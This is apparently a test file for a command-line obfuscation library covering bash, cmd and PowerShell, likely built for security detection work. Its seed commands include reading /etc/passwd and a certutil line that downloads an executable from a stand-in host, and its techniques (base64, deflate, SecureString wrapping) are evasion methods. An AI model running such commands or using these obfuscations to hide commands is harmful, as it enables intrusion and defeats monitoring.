"""The registry and ``obfuscate``: names, errors, determinism, layering, and light variants that stay short."""

from __future__ import annotations

import collections
import dataclasses
import random

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline import obfuscate as ob
from sectune.tasks.cmdline.obfuscate import INTENSITIES, REGISTRY, Obfuscation, obfuscate, techniques

SEED40 = {  # 40-character seeds
    "bash": "cat /etc/passwd | grep root | cut -d: -f1"[:40],
    "cmd": "certutil -urlcache -f http://a.io/x x.exe"[:40],
    "powershell": "Get-ChildItem C:\\Users -Recurse -Force |"[:39] + "%",
}
# Light variants that cannot be short, and why. All must still stay under 200 characters.
LONG_LIGHT = {
    "powershell/deflate": "the inflate stub ([IO.StreamReader], DeflateStream, MemoryStream) is ~140 characters by itself",
    "powershell/securestring": "ConvertTo-SecureString and the reveal through [pscredential] are ~120 characters by themselves",
    "cmd/for-loop": "the FOR loop, the index list and the sentinel test are ~110 characters even for one command name",
}
FAMILIES = {
    "encoding",
    "compression",
    "encryption",
    "quoting",
    "escaping",
    "whitespace",
    "globbing",
    "variables",
    "case",
    "reversal",
    "concatenation",
    "reordering",
    "substitution",
    "aliases",
    "options",
}


def test_every_technique_is_described_and_lives_in_its_shell_module():
    assert {t.shell for t in REGISTRY.values()} == {"bash", "cmd", "powershell"}
    for name, t in REGISTRY.items():
        assert name == t.name and name.startswith(t.shell + "/")
        assert t.description and "\n" not in t.description and len(t.description) < 160, name
        assert t.apply.__module__ == f"sectune.tasks.cmdline.obfuscate.{t.shell}", name
        assert t.family in FAMILIES, (name, t.family)
    assert len(techniques("bash")) >= 15 and len(techniques("cmd")) >= 10 and len(techniques("powershell")) >= 12
    assert all(t.shell == "cmd" for t in techniques("cmd"))


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_light_stays_short(name):
    t = REGISTRY[name]
    seed = SEED40[t.shell]
    assert len(seed) == 40
    lengths = []
    for r in range(20):
        try:
            lengths.append(len(obfuscate(seed, t.shell, [name], "light", rng=r).text))
        except SectuneError:
            pass
    assert lengths, f"{name} does not apply to {seed!r}"
    assert max(lengths) < 200
    if name not in LONG_LIGHT:
        assert max(lengths) < 2.5 * len(seed) + 60, f"{name}: light output of {max(lengths)} characters"


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_same_rng_same_output_and_intensities_differ(name):
    t = REGISTRY[name]
    seed = SEED40[t.shell]
    outputs = {}
    for intensity in INTENSITIES:
        try:
            a = obfuscate(seed, t.shell, [name], intensity, rng=5)
        except SectuneError:
            continue
        assert a == obfuscate(seed, t.shell, [name], intensity, rng=random.Random(5))
        assert a.text != seed and a.techniques == (name,) and a.intensity == intensity
        outputs[intensity] = a.text
    assert len(outputs) >= 2


def test_different_rng_seeds_give_different_outputs():
    for shell, seed in SEED40.items():
        texts = [obfuscate(seed, shell, rng=r).text for r in range(30)]
        assert len(set(texts)) >= 27, shell
    varied = [
        name
        for name, t in REGISTRY.items()
        if len({obfuscate(SEED40[t.shell], t.shell, [name], "medium", rng=r).text for r in range(8)}) > 1
    ]
    assert len(varied) >= len(REGISTRY) - 3  # option-swap with one option, say, has only one medium output


def test_names_with_or_without_the_shell_prefix():
    a = obfuscate("net user", "cmd", ["caret", "cmd/separators"], "light", rng=1)
    assert isinstance(a, Obfuscation) and a.techniques == ("cmd/caret", "cmd/separators") and a.shell == "cmd"


@pytest.mark.parametrize(
    "call, message",
    [
        (lambda: obfuscate("ls", "zsh"), "unknown shell 'zsh'; valid shells: bash, cmd, powershell"),
        (lambda: obfuscate("ls", "bash", ["nope"]), "unknown bash technique 'nope'; valid: base64,"),
        (lambda: obfuscate("ls", "bash", ["cmd/caret"]), "unknown bash technique 'cmd/caret'"),
        (
            lambda: obfuscate("ls", "bash", intensity="extreme"),
            "unknown intensity 'extreme'; valid: light, medium, heavy",
        ),
        (lambda: obfuscate("ls", "bash", layers=0), "layers must be at least 1"),
        (lambda: techniques("fish"), "unknown shell 'fish'"),
    ],
)
def test_unknown_names_are_one_line_errors(call, message):
    with pytest.raises(SectuneError) as err:
        call()
    assert message in str(err.value) and "\n" not in str(err.value)


def test_random_layers_follow_the_documented_weights():
    counts = collections.Counter(len(obfuscate("echo hello world", "bash", rng=r).techniques) for r in range(600))
    assert set(counts) <= {1, 2, 3}
    assert 0.5 < counts[1] / 600 < 0.7 and 0.2 < counts[2] / 600 < 0.4 and 0.05 < counts[3] / 600 < 0.16
    for shell, seed in SEED40.items():
        result = obfuscate(seed, shell, layers=3, rng=4)
        assert len(result.techniques) == 3 and all(n.startswith(shell + "/") for n in result.techniques)


def test_a_technique_that_is_not_layerable_must_come_last(monkeypatch):
    last = dataclasses.replace(REGISTRY["bash/base64"], layerable=False)
    monkeypatch.setitem(ob.REGISTRY, "bash/base64", last)
    with pytest.raises(SectuneError, match="bash/base64 output cannot be fed to bash/quotes"):
        obfuscate("echo hi", "bash", ["base64", "quotes"])
    assert obfuscate("echo hi", "bash", ["quotes", "base64"], rng=1).techniques == ("bash/quotes", "bash/base64")
    for r in range(40):  # random picks never put it before another technique
        names = obfuscate("echo hi", "bash", layers=3, rng=r).techniques
        assert "bash/base64" not in names[:-1]


def test_random_picks_skip_techniques_that_do_not_apply():
    for r in range(30):
        result = obfuscate("whoami", "cmd", rng=r)  # no option to swap, no argument to rewrite
        assert "cmd/option-swap" not in result.techniques and "cmd/arg-insertion" not in result.techniques[:1]
